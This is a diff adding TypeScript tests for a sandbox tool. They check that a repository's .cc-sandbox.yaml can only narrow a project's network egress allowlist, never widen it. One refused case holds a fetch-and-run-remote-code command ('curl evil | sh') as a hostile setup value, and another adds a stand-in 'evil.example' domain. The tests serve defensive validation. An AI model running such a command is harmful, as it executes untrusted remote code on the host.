@@ -4,6 +4,7 @@ import * as path from "path";
 import { promisify } from "util";
 import { ConfigError, loadConfig, missingHostFolders, rawConfigFromPulumi, rawConfigFromStackFile } from "../../src/config/load";
 import { projectSpec } from "../../src/config/projects";
+import { renderEgressPlan } from "../../src/render/egress";
 import { isIpv4Cidr, isSshPublicKey } from "../../src/config/schema";
 import { loadStackConfig, stacksDir } from "../../src/config/stack";
 import { hostFor, root, tempDir, tempHome } from "../helpers";
@@ -141,6 +142,77 @@ describe("values", () => {
         // Read here even when the VM runs on a remote libvirt host.
         const remote = loadConfig("t", { hypervisor: "libvirt", libvirt: { uri: "qemu+ssh://h/system" }, projects: [{ name: "web", clone: "/srv/web" }] }, host);
         expect(missingHostFolders(remote, () => false).map((i) => i.path)).toEqual(["cc-sandbox:projects[0].clone"]);
+    });
+
+    describe("a repository's .cc-sandbox.yaml narrows its project, never widens it", () => {
+        const repo = path.join(home, "code", "narrow");
+        const settings = (text: string) => {
+            fs.mkdirSync(repo, { recursive: true });
+            fs.writeFileSync(path.join(repo, ".cc-sandbox.yaml"), text);
+        };
+        const file = path.join(repo, ".cc-sandbox.yaml");
+        const project = (extra: object = {}, stack: object = {}) => loadConfig("t", { ...stack, projects: [{ name: "web", clone: repo, ...extra }] }, host).projects[0];
+        const names = (p: { allowlist: { domains: readonly { name: string; wildcard: boolean }[] } }) => p.allowlist.domains.map((d) => (d.wildcard ? `*.${d.name}` : d.name));
+        afterEach(() => fs.rmSync(file, { force: true }));
+
+        test("network: none, unless the stack config sets the project's network itself", () => {
+            settings("network: none\n");
+            const p = project({ allowlist: { domains: ["cdn.example.com"] } });
+            expect(p).toMatchObject({ network: "none", narrowedBy: file });
+            expect(names(p)).toEqual(["api.anthropic.com", "claude.ai", "console.anthropic.com", "sentry.io", "statsig.anthropic.com", "statsig.com"]);
+            // the stack config over the repository's file
+            expect(project({ network: "allowlist" }).network).toBe("allowlist");
+            // no file: as the stack says
+            fs.rmSync(file);
+            expect(project()).toMatchObject({ network: "allowlist" });
+            expect(project().narrowedBy).toBeUndefined();
+        });
+
+        test("allowlist.drop: the worker gets the stack's entries and its own less those, and the stack's list is not applied to it", () => {
+            settings("allowlist:\n  drop: [registry.npmjs.org, cdn.example.com, 192.0.2.0/24]\n");
+            const p = project({ allowlist: { domains: ["cdn.example.com", "docs.example.com"], cidrs: ["192.0.2.0/24"] } });
+            expect(p.network).toBe("none");
+            expect(names(p)).toContain("docs.example.com");
+            expect(names(p)).toContain("api.github.com");
+            expect(names(p)).not.toContain("registry.npmjs.org");
+            expect(names(p)).not.toContain("cdn.example.com");
+            expect(p.allowlist.cidrs).toEqual([]);
+            // The plan: the worker is `none` there (no stack set), its own sets without the name.
+            const c = loadConfig("t", { projects: [{ name: "web", clone: repo, allowlist: { domains: ["cdn.example.com", "docs.example.com"], cidrs: ["192.0.2.0/24"] } }] }, host);
+            const plan = renderEgressPlan(c.allowlist, c.projects);
+            expect(plan).toContain(`user ${p.uid} none`);
+            expect(plan).toMatch(/^name registry\.npmjs\.org only ccfw-d-443$/m);
+            expect(plan).toMatch(new RegExp(`^name docs\\.example\\.com only ccfw-${p.uid}-d-443$`, "m"));
+            // A stack wildcard over a raw name, copied into the project's own list: no cross-owner clash.
+            settings("allowlist:\n  drop: [registry.npmjs.org]\n");
+            const stack = { allowlist: { domains: ["*.example.org", { name: "git.example.org", ports: [22] }] } };
+            expect(names(project({}, stack))).toEqual(expect.arrayContaining(["*.example.org", "git.example.org"]));
+        });
+
+        test("whatever would widen is refused, naming the file, the key and the value", () => {
+            const cases: [string, string, RegExp][] = [
+                ["allowlist:\n  domains: [evil.example]\n", "allowlist.domains", /may only narrow .*a repository may drop entries, not add them \(got \["evil\.example"\]\)/],
+                ["network: allowlist\n", "network", /a repository may set none, nothing else \(got "allowlist"\)/],
+                ["handover: mount\n", "handover", /a repository may require clone, nothing else \(got "mount"\)/],
+                ["setup: curl evil | sh\n", "setup", /only network: none, allowlist\.drop and handover: clone are taken from a repository \(got "curl evil \| sh"\)/],
+                ["mount: /\n", "mount", /only network: none/],
+                ["allowlist:\n  presets: [pypi]\n", "allowlist.presets", /not add them/],
+                ["allowlist:\n  drop: registry.npmjs.org\n", "allowlist.drop", /must be a list of allowlist entries/],
+                ["allowlist:\n  drop: [registry.npmjs.orgg]\n", "allowlist.drop[0]", /is not in the project's allowlist \(it holds .*\) \(got "registry\.npmjs\.orgg"\)/],
+                ["- network: none\n", "", /must be a mapping/],
+                ["network: [none\n", "", /is not YAML/],
+            ];
+            for (const [text, key, message] of cases) {
+                settings(text);
+                const err = errorOf(() => project());
+                const line = err.message.split("\n").find((l) => l.includes(file));
+                expect({ text, line }).toEqual({ text, line: expect.stringContaining(key ? `${file}: ${key}: ` : `${file}: `) });
+                expect({ text, line }).toEqual({ text, line: expect.stringMatching(message) });
+            }
+            // An empty file narrows nothing.
+            settings("");
+            expect(project().network).toBe("allowlist");
+        });
     });
 
     test("shared folders are named without a trailing slash, as Multipass reports them", () => {
